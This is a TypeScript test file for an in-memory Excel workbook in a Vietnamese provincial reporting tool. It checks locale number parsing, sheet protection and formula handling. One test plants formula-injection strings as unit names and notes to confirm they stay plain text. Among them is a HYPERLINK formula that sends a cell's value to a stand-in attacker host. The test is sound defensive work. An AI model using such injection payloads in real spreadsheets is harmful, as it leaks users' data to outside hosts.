import { describe, expect, it } from 'vitest';
import { templateFor } from '../../../shared/templates';
import { demoProvinceConsolidations } from '../../../shared/demo/province';
import { parsePeriod } from '../../../shared/periods';
import { buildTemplateSheet, cellName, consolidatedWorkbook, sheetMetadataFor } from '../../../shared/workbook';
import { checkGrid } from '../check';
import { MemoryWorkbook, excelEntry } from './memory-workbook';
import { versionOf } from '../../../shared/templates';

describe('typing as Excel reads it in Vietnamese settings', () => {
  it.each([
    ['1.683', undefined, 1683],
    ['74,65%', undefined, 0.7465],
    ['74,65', '0.00%', 0.7465],
    ['409,8', '#,##0.0##', 409.8],
    ['hơn 5.092', '#,##0', 'hơn 5.092'],
    ['', '#,##0', null],
    ['=1+1', undefined, '=1+1'],
    ['-5', undefined, -5],
    ['=1+1', '@', '=1+1'],
  ])('%s in a cell formatted %s holds %s', (text, format, expected) => {
    expect(excelEntry(text, format)).toBe(expected);
  });
});

describe('the in-memory workbook', () => {
  it('guards a protected template: its yellow inputs take typing, a label and a formula do not, until protection is lifted', async () => {
    const wb = new MemoryWorkbook();
    const bm03 = templateFor('BM03', '2024-H1')!;
    await wb.writeSheets([buildTemplateSheet(bm03, { period: '2024-H1' })], [sheetMetadataFor(bm03, { period: '2024-H1' })]);
    wb.type('E7', '1.683', 'BM03');
    expect(wb.value('BM03', 6, 4)).toBe(1683);
    expect(() => wb.type('C7', 'x', 'BM03')).toThrow('trang được bảo vệ');
    expect(() => wb.type('E31', '99%', 'BM03')).toThrow('trang được bảo vệ');
    expect(wb.editable('E31', 'BM03')).toBe(false);
    wb.unprotect('BM03');
    wb.type('E31', '99%', 'BM03');
    expect(wb.value('BM03', 30, 4)).toBe(0.99);
  });

  it('holds an inserted template like Excel: names, metadata, formulas unevaluated', async () => {
    const wb = new MemoryWorkbook();
    const bm03 = templateFor('BM03', '2024-H1')!;
    await wb.writeSheets([buildTemplateSheet(bm03, { period: '2024-H1' })], [sheetMetadataFor(bm03, { period: '2024-H1' })]);
    expect(wb.active).toBe('BM03');
    expect(await wb.templateSheets()).toEqual([{ sheet: 'BM03', template: 'BM03', version: versionOf('BM03', '2024-H1'), period: '2024-H1' }]);
    const at = wb.names.get(cellName('BM03', 'HS02.KQ'))!;
    wb.type('E17', '500.000');
    wb.type('E16', '400.000');
    expect(wb.value('BM03', at.row, at.col)).toBe(500000);
    const read = await wb.readSheet();
    const [check] = checkGrid(read.grid, 'BM03', { names: read.names, period: '2024-H1' });
    expect(check!.report.errors.map((e) => e.code)).toEqual(['part_exceeds_whole']);
    await expect(wb.writeSheets([buildTemplateSheet(bm03)], [])).rejects.toThrow('đã có trang');
  });

  it('takes a string written into a General cell as a formula, as Excel does, and into a text cell as text', () => {
    const wb = new MemoryWorkbook();
    wb.apply({ op: 'values', sheet: 'Sheet1', row: 0, col: 0, matrix: [['=1+1', '-A1', '-5']] });
    expect([0, 1].map((c) => wb.cell('Sheet1', 0, c)?.formula)).toEqual(['=1+1', '-A1']);
    expect(wb.value('Sheet1', 0, 2)).toBe(-5);
    wb.apply({ op: 'numberFormat', sheet: 'Sheet1', row: 1, col: 0, matrix: [['@']] });
    wb.apply({ op: 'values', sheet: 'Sheet1', row: 1, col: 0, matrix: [['=1+1']] });
    expect(wb.cell('Sheet1', 1, 0)).toMatchObject({ value: '=1+1' });
    expect(wb.cell('Sheet1', 1, 0)?.formula).toBeUndefined();
  });

  it('never turns user text into a formula: notes, names and labels in consolidated sheets stay text', async () => {
    const hostile = ['=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")', '+1+1', '-A1', '@SUM(A1)', '\t=1+1'];
    const period = parsePeriod('2024-H1')!;
    const [c] = demoProvinceConsolidations('2024-H1', [templateFor('BM03', '2024-H1')!]);
    // A clerk's note, a unit's name and an explanation of a warning, as hostile as they come.
    const units = c!.units.map((u, i) => ({ ...u, name: hostile[i % hostile.length]!, values: { ...u.values, 'TT01.GC': hostile[(i + 1) % hostile.length]! } }));
    const openWarnings = hostile.map((note, i) => ({ unit: c!.units[i]!.code, code: 'jump', cells: ['TT01.KQ'], message: 'Biến động lớn', note }));
    const completeness = { ...c!.completeness, openWarnings };
    const model = consolidatedWorkbook({ province: 'Đắk Lắk', period, generatedAt: '2024-06-30T00:00:00Z', engineVersion: '1.0.0', consolidations: [{ ...c!, units, completeness }] });
    const wb = new MemoryWorkbook();
    // As DIC's pull writes them: the visible sheets, with their metadata.
    await wb.writeSheets(model.sheets.filter((s) => s.visibility !== 'veryHidden'), model.metadata, model.charts);
    const formulas = wb.sheets.flatMap((s) => [...s.cells.values()].filter((cell) => cell.formula !== undefined));
    const texts = wb.sheets.flatMap((s) => [...s.cells.values()].map((cell) => cell.value).filter((v) => typeof v === 'string'));
    expect(formulas).toEqual([]);
    for (const h of hostile) expect(texts).toContain(h);
  });

  it('marks and clears highlights', async () => {
    const wb = new MemoryWorkbook();
    await wb.highlight([], [{ address: "'Sheet1'!B2", severity: 'error' }]);
    expect(wb.cell('Sheet1', 1, 1)?.fill).toBe('F4B6B6');
    await wb.highlight([{ address: "'Sheet1'!B2", fill: null }], []);
    expect(wb.cell('Sheet1', 1, 1)?.fill).toBeNull();
  });
});
